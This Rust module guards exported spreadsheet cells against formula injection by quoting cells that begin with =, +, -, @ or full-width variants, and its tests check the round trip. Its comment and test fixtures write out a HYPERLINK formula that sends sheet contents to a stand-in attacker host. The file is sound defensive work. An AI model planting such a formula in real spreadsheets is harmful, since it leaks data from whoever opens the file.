//! Text cells of the spreadsheets we export (CSV and xlsx), guarded against formula injection.
//!
//! A spreadsheet program opening an export runs a cell that starts with `=`, `+`, `-` or `@`
//! (or a tab or carriage return before one) as a formula: a matter name such as
//! `=HYPERLINK("http://evil.example/?"&A1,"点击")` typed into the catalogue would send the
//! sheet's contents elsewhere when a colleague opens the export. Such a cell is written with a
//! leading `'`, which spreadsheet programs show as text. The full-width forms (`＝＋－＠`) are
//! guarded too, because an input method may turn them into the ASCII ones.
//!
//! The guard must not change what an import reads back, so it is a bijection: a cell that
//! already starts with `'` in front of a guarded text gets one more `'`, and [`restore`] takes
//! exactly one away from a cell that [`guard`] could have written. A plain number (`-5`,
//! `+3.5`) is data, not a formula, and is written as it is; so is a trigger on its own.

use std::borrow::Cow;

const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Whether a text is an ordinary decimal number, optionally signed, with an exponent.
fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exponent) = match body.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
        None => (body, None),
    };
    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |t: &str| t.bytes().all(|b| b.is_ascii_digit());
    !(int.is_empty() && frac.is_empty())
        && digits(int)
        && digits(frac)
        && exponent.is_none_or(|e| !e.is_empty() && digits(e))
}

/// Whether a spreadsheet program would read the text as a formula. A trigger on its own
/// (the reports' `-` for "no value") has nothing to run and stays as it is.
pub fn formula_like(s: &str) -> bool {
    s.starts_with(TRIGGERS) && s.chars().nth(1).is_some() && !is_plain_number(s)
}

/// Whether [`guard`] prefixes this text: it reads as a formula, or it is one or more `'` in
/// front of such a text (so that [`restore`] can always take exactly one away).
fn needs_guard(s: &str) -> bool {
    formula_like(s.trim_start_matches('\''))
}

/// The cell as written to an export.
pub fn guard(s: &str) -> Cow<'_, str> {
    if needs_guard(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// The text a cell read from an import stands for: the inverse of [`guard`].
pub fn restore(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => s,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finding_8_formula_cells_get_a_quote_and_come_back_unchanged() {
        for lead in ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'] {
            let cell = format!("{lead}HYPERLINK(\"http://evil.example\")");
            assert_eq!(guard(&cell), format!("'{cell}"), "{lead:?}");
            assert_eq!(restore(&guard(&cell)), cell, "{lead:?}");
        }
        for plain in [
            "区市场监管局",
            "",
            "20",
            "-5",
            "+3.5",
            "1e5",
            "-0.25E-3",
            "a=b",
            "'quoted",
            "-",
        ] {
            assert_eq!(guard(plain), plain, "{plain:?}");
            assert_eq!(restore(plain), plain, "{plain:?}");
        }
        // Quotes in front of a formula are themselves data: each survives the round trip.
        for tricky in ["'=1+1", "''=1+1", "'-5", "-", "-5-", "+", "=", "@", "'"] {
            assert_eq!(restore(&guard(tricky)), tricky, "{tricky:?}");
            assert!(!formula_like(&guard(tricky)), "{tricky:?}");
        }
    }
}
